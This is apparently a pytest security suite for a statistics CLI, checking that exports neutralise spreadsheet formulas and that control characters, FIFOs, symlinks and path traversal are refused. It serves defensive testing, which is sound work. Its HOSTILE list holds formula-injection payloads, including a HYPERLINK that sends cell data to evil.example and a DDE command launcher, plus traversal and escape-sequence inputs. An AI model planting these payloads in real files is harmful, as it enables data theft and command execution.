"""Issue 13, output, files and paths: nothing we write runs, nothing special is opened, nothing
outside its place is replaced. Each test is a command a user (or an attacker) would run."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import Invoke, write
from openpyxl import load_workbook

SHEET = "指标,数值,来源,备注\n培养创客,1234,{source},{note}\n"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1)', "+cmd|' /C calc'!A0", "@SUM(1+9)", "-1+2"]


def _sheet(tmp_path: Path, source: str, note: str) -> Path:
    buf = io.StringIO()
    csv.writer(buf).writerows([["指标", "数值", "来源", "备注"], ["培养创客", "1234", source, note]])
    return write(tmp_path / "sheet.csv", buf.getvalue())


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_neutralised_in_csv_and_xlsx_and_reads_back(
    cli: Invoke, empty_data_dir: Path, tmp_path: Path, text: str
) -> None:
    d = ("--data-dir", empty_data_dir)
    assert cli("import", _sheet(tmp_path, text, text), "--year", "2019", *d).exit_code == 0
    out_csv, out_xlsx = tmp_path / "out.csv", tmp_path / "out.xlsx"
    assert cli("export", "--output", out_csv, *d).exit_code == 0
    rows = list(csv.reader(io.StringIO(out_csv.read_text(encoding="utf-8-sig"))))
    assert ["'" + text] * 2 == [rows[1][rows[0].index("source")], rows[1][rows[0].index("note")]]
    assert cli("export", "--format", "xlsx", "--output", out_xlsx, *d).exit_code == 0
    cells = [c for row in load_workbook(out_xlsx).active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + text in [c.value for c in cells]
    for back in (out_csv, out_xlsx):
        result = cli("import", back, *d)
        assert result.exit_code == 0, result.stderr
        assert "nothing to do" in result.stderr + result.stdout


def test_report_and_status_csv_are_neutralised_too(cli: Invoke, empty_data_dir: Path, tmp_path: Path) -> None:
    d = ("--data-dir", empty_data_dir)
    assert cli("import", _sheet(tmp_path, "=1+2", "@x"), "--year", "2019", *d).exit_code == 0
    book = tmp_path / "report.xlsx"
    assert cli("report", "--format", "xlsx", "--out", book, *d).exit_code == 0
    cells = [c for sheet in load_workbook(book).worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    status = cli("status", "--format", "csv", *d)
    assert status.exit_code == 0
    assert not [line for line in status.stdout.splitlines() if line.startswith(("=", "+", "@"))]


def test_a_control_character_in_a_sheet_is_refused_at_its_cell(
    cli: Invoke, empty_data_dir: Path, tmp_path: Path
) -> None:
    result = cli(
        "import", _sheet(tmp_path, "ok", "\x1b[2Jgone\x07"), "--year", "2019", "--data-dir", empty_data_dir
    )
    assert result.exit_code == 1
    assert "sheet.csv:2:4: error[control-character]" in result.stderr
    assert "\x1b" not in result.stderr + result.stdout
    assert "\\u001b" in result.stderr
    assert not (empty_data_dir / "reports" / "2019.yaml").exists()


def test_a_control_character_in_a_report_is_refused_and_never_reaches_a_workbook(
    cli: Invoke, empty_data_dir: Path, tmp_path: Path
) -> None:
    write(
        empty_data_dir / "reports" / "2019.yaml",
        "year: 2019\nprovenance: official\nsource: x\nvalues:\n"
        '  makers_trained: {value: 5, note: "a\\ab\\e[31m"}\n',
    )
    d = ("--data-dir", empty_data_dir)
    result = cli("validate", *d)
    assert result.exit_code == 1
    assert "2019.yaml:5:" in result.stdout + result.stderr
    assert "error[control-character]" in result.stdout + result.stderr
    assert "\x1b" not in result.stdout + result.stderr
    out = tmp_path / "out.xlsx"
    exported = cli("export", "--format", "xlsx", "--output", out, *d)
    assert exported.exit_code == 1
    assert not out.exists()
    shown = cli("show", "makers_trained", *d)
    assert "\x1b" not in shown.stdout + shown.stderr


def test_an_unknown_name_is_echoed_escaped(cli: Invoke, empty_data_dir: Path, tmp_path: Path) -> None:
    sheet = write(tmp_path / "s.csv", "指标,数值\n\x1b[31m培养创客,5\n")
    result = cli("import", sheet, "--year", "2019", "--data-dir", empty_data_dir)
    assert result.exit_code == 1
    assert "\x1b" not in result.stdout + result.stderr
    assert "s.csv:2:1: error[unknown-indicator]" in result.stderr


# ------------------------------------------------------------------ special files: never opened


def _dehong(*args: str | Path) -> subprocess.CompletedProcess[str]:
    """A real process: a FIFO opened for reading blocks the whole process, so a hang fails the test."""
    argv = [sys.executable, "-m", "dehong_cli", *map(str, args)]
    return subprocess.run(argv, capture_output=True, text=True, timeout=60, check=False)


@pytest.mark.parametrize(
    ("where", "commands"),
    [
        ("reports/2020.yaml", [["validate"], ["status"], ["export"]]),
        ("targets.yaml", [["validate"], ["status"], ["export"]]),
        ("tasks/2019.yaml", [["validate"], ["tasks", "--year", "2019"]]),
    ],
)
def test_a_fifo_in_the_data_folder_is_refused_without_a_hang(
    empty_data_dir: Path, where: str, commands: list[list[str]]
) -> None:
    fifo = empty_data_dir / where
    fifo.parent.mkdir(exist_ok=True)
    fifo.unlink(missing_ok=True)
    os.mkfifo(fifo)
    for command in commands:
        result = _dehong(*command, "--data-dir", empty_data_dir)
        assert result.returncode == 1, (command, result.stderr)
        assert "not-a-file" in result.stdout + result.stderr
        assert "Traceback" not in result.stderr


def test_a_fifo_given_as_a_sheet_or_to_validate_is_refused(empty_data_dir: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "sheet.csv"
    os.mkfifo(fifo)
    imported = _dehong("import", fifo, "--year", "2019", "--data-dir", empty_data_dir)
    assert imported.returncode == 1
    assert "error[not-a-file]" in imported.stderr
    report = tmp_path / "2019.yaml"
    os.mkfifo(report)
    validated = _dehong("validate", report, "--data-dir", empty_data_dir)
    assert validated.returncode == 1
    assert "error[not-a-file]" in validated.stdout + validated.stderr


# ------------------------------------------------------------------ files and paths


def test_a_lock_symlink_is_refused_and_its_target_never_made(
    cli: Invoke, empty_data_dir: Path, tmp_path: Path
) -> None:
    victim = tmp_path / "victim.txt"
    (empty_data_dir / "reports" / ".2019.yaml.lock").symlink_to(victim)
    result = cli("import", _sheet(tmp_path, "x", "y"), "--year", "2019", "--data-dir", empty_data_dir)
    assert result.exit_code == 1
    assert "error[not-a-file]" in result.stderr
    assert ".2019.yaml.lock" in result.stderr
    assert not victim.exists()
    assert not (empty_data_dir / "reports" / "2019.yaml").exists()


@pytest.mark.parametrize("name", ["reports/2019.yaml", "targets.yaml", "tasks/new.csv"])
def test_output_into_the_data_folder_is_a_usage_error(cli: Invoke, data_dir: Path, name: str) -> None:
    target = data_dir / name
    before = target.read_bytes() if target.exists() else None
    result = cli("export", "--output", target, "--data-dir", data_dir)
    assert result.exit_code == 2
    assert "data folder" in result.stderr
    assert (target.read_bytes() if target.exists() else None) == before


def test_output_over_a_folder_or_fifo_is_refused(cli: Invoke, data_dir: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    for target in (tmp_path, fifo):
        result = cli("export", "--output", target, "--data-dir", data_dir)
        assert result.exit_code == 2, result.stderr
        assert "not a file" in result.stderr
    assert stat.S_ISFIFO(fifo.stat().st_mode)


def test_output_to_a_device_writes_into_it(cli: Invoke, data_dir: Path) -> None:
    result = cli("export", "--format", "xlsx", "--output", "/dev/null", "--data-dir", data_dir)
    assert result.exit_code == 0
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_a_read_only_output_is_not_replaced(cli: Invoke, data_dir: Path, tmp_path: Path) -> None:
    out = write(tmp_path / "out.csv", "old")
    out.chmod(0o444)
    result = cli("export", "--output", out, "--data-dir", data_dir)
    assert result.exit_code == 1
    assert "read-only" in result.stderr
    assert out.read_text() == "old"


def test_a_read_only_report_is_refused_not_replaced(cli: Invoke, data_dir: Path, tmp_path: Path) -> None:
    report = data_dir / "reports" / "2019.yaml"
    before = report.read_bytes()
    report.chmod(0o444)
    sheet = write(tmp_path / "s.csv", "指标,数值\n培养创客,4321\n")
    result = cli("import", sheet, "--year", "2019", "--replace", "--data-dir", data_dir)
    assert result.exit_code == 1
    assert "error[read-only]" in result.stderr
    assert report.read_bytes() == before


# ------------------------------------------------------------------ no NaN, no infinity


def _strict(text: str) -> object:
    def refuse(token: str) -> object:
        raise AssertionError(f"not JSON: {token}")

    return json.loads(text, parse_constant=refuse)


def test_a_tiny_baseline_is_unable_to_assess_not_nan(cli: Invoke, data_dir: Path) -> None:
    """1e-320 is an allowed figure; the growth rate from it is not a real one: said, never NaN."""
    base = data_dir / "reports" / "2016.yaml"
    base.write_text(
        re.sub(r"(?m)^  fiscal_st_spending: [^ #\n]+", "  fiscal_st_spending: 1e-320", base.read_text())
    )
    d = ("--data-dir", data_dir)
    status = cli("status", "--format", "json", *d)
    assert status.exit_code == 0, status.stderr
    _strict(status.stdout)
    for goal in ("fiscal_st_spending", "fiscal_st_spending_growth"):
        shown = cli("show", goal, *d)
        assert "Traceback" not in shown.stdout + shown.stderr
        assert "nan" not in shown.stdout.lower().split()
    assert cli("report", "--format", "markdown", *d).exit_code == 0


def test_a_ratio_past_the_limit_is_refused_by_validate(cli: Invoke, data_dir: Path) -> None:
    report = data_dir / "reports" / "2018.yaml"
    report.write_text(re.sub(r"(?m)^  gdp: [^ #\n]+", "  gdp: 1e-320", report.read_text()))
    result = cli("validate", "--data-dir", data_dir)
    assert result.exit_code == 1
    assert re.search(
        r"2018\.yaml:\d+:\d+: error\[range\]: rd_expenditure ÷ gdp", result.stdout + result.stderr
    )


def test_a_region_code_that_is_a_path_is_refused(cli: Invoke, empty_data_dir: Path, tmp_path: Path) -> None:
    targets = empty_data_dir / "targets.yaml"
    targets.write_text(
        targets.read_text(encoding="utf-8").replace("code: '533122'", "code: 'x/../../../escaped'")
    )
    d = ("--data-dir", empty_data_dir)
    result = cli("validate", *d)
    assert result.exit_code == 1
    assert re.search(r"targets\.yaml:\d+:\d+: error\[schema\]", result.stdout + result.stderr)
    (empty_data_dir / "reports" / "2019-x").mkdir()
    sheet = write(tmp_path / "s.csv", "指标,数值\n培养创客,5\n")
    assert cli("import", sheet, "--year", "2019", "--region", "梁河县", *d).exit_code == 1
    assert not (tmp_path / "escaped.yaml").exists()


def test_a_control_character_in_a_catalogue_name_is_refused(cli: Invoke, empty_data_dir: Path) -> None:
    targets = empty_data_dir / "targets.yaml"
    text = targets.read_text(encoding="utf-8").replace("name: 芒市\n", 'name: "芒市\\e[31m"\n', 1)
    targets.write_text(text, encoding="utf-8")
    result = cli("validate", "--data-dir", empty_data_dir)
    assert result.exit_code == 1
    assert re.search(r"targets\.yaml:\d+:\d+: error\[control-character\]", result.stdout + result.stderr)
    assert "\x1b" not in result.stdout + result.stderr
